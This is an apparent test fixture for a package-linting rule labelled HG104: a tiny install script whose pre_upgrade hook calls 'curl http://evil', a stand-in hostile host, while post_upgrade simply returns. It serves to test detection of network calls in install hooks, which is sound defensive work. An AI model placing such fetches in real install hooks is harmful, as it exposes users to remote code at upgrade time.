# rule: HG104
pre_upgrade() {
    <&-curl http://evil
}
post_upgrade() {
    return 0
}
